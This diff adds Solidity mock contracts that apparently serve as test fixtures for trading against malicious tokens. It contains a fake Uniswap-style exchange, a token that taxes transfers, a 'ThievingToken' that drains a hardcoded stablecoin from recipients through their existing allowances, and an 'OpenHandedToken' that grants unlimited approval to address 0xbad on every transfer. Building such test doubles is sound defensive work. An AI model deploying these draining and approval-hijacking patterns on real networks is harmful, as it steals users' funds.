@@ -1,0 +1,115 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.28;
+
+interface Token {
+  function transfer(address to, uint256 value) external returns (bool);
+  function transferFrom(address from, address to, uint256 value) external returns (bool);
+}
+
+/// Swaps as SwapRouter02 does and quotes as QuoterV2 does, at a rate that anyone may set. It stands at the addresses of both.
+contract Exchange {
+  struct Swap {
+    address tokenIn;
+    address tokenOut;
+    uint24 fee;
+    address recipient;
+    uint256 amountIn;
+    uint256 amountOutMinimum;
+    uint160 limit;
+  }
+  struct Quote {
+    address tokenIn;
+    address tokenOut;
+    uint256 amountIn;
+    uint24 fee;
+    uint160 limit;
+  }
+
+  /// What comes for a thousand that is sold.
+  uint256 public rate;
+
+  function setRate(uint256 value) external {
+    rate = value;
+  }
+
+  function quoteExactInputSingle(Quote calldata quote) external view returns (uint256, uint160, uint32, uint256) {
+    return ((quote.amountIn * rate) / 1000, 0, 0, 0);
+  }
+
+  function multicall(uint256 deadline, bytes[] calldata calls) external payable {
+    require(block.timestamp <= deadline, "Transaction too old");
+    for (uint256 index = 0; index < calls.length; index++) {
+      (bool done, ) = address(this).delegatecall(calls[index]);
+      require(done, "it failed");
+    }
+  }
+
+  function exactInputSingle(Swap calldata swap) external payable returns (uint256 amount) {
+    amount = (swap.amountIn * rate) / 1000;
+    require(amount >= swap.amountOutMinimum, "Too little received");
+    require(Token(swap.tokenIn).transferFrom(msg.sender, address(this), swap.amountIn), "it was not paid");
+    require(Token(swap.tokenOut).transfer(swap.recipient, amount), "it was not given");
+  }
+}
+
+/// A token that keeps a tenth of what is moved.
+contract TaxedToken {
+  mapping(address => uint256) public balanceOf;
+  mapping(address => mapping(address => uint256)) public allowance;
+
+  event Transfer(address indexed from, address indexed to, uint256 value);
+  event Approval(address indexed owner, address indexed spender, uint256 value);
+
+  function mint(address to, uint256 value) external {
+    balanceOf[to] += value;
+  }
+
+  function approve(address spender, uint256 value) external returns (bool) {
+    allowance[msg.sender][spender] = value;
+    emit Approval(msg.sender, spender, value);
+    return true;
+  }
+
+  function transfer(address to, uint256 value) external returns (bool) {
+    return move(msg.sender, to, value);
+  }
+
+  function transferFrom(address from, address to, uint256 value) external returns (bool) {
+    allowance[from][msg.sender] -= value;
+    return move(from, to, value);
+  }
+
+  function move(address from, address to, uint256 value) internal virtual returns (bool) {
+    balanceOf[from] -= value;
+    // Only what leaves an exchange is taxed, so that one can be filled.
+    uint256 kept = from.code.length > 0 ? value / 10 : 0;
+    balanceOf[to] += value - kept;
+    emit Transfer(from, to, value);
+    return true;
+  }
+}
+
+/// A token that, while it moves, helps itself to whatever its new owner once let it move.
+contract ThievingToken is TaxedToken {
+  address constant dollar = 0x036CbD53842c5426634e7929541eC2318f3dCF7e;
+
+  function move(address from, address to, uint256 value) internal override returns (bool) {
+    balanceOf[from] -= value;
+    balanceOf[to] += value;
+    emit Transfer(from, to, value);
+    if (from.code.length > 0) Token(dollar).transferFrom(to, address(this), 7_000_000);
+    return true;
+  }
+}
+
+/// A token that, while it moves, lets somebody move its new owner's.
+contract OpenHandedToken is TaxedToken {
+  function move(address from, address to, uint256 value) internal override returns (bool) {
+    balanceOf[from] -= value;
+    balanceOf[to] += value;
+    emit Transfer(from, to, value);
+    allowance[to][address(0xbad)] = type(uint256).max;
+    emit Approval(to, address(0xbad), type(uint256).max);
+    return true;
+  }
+}
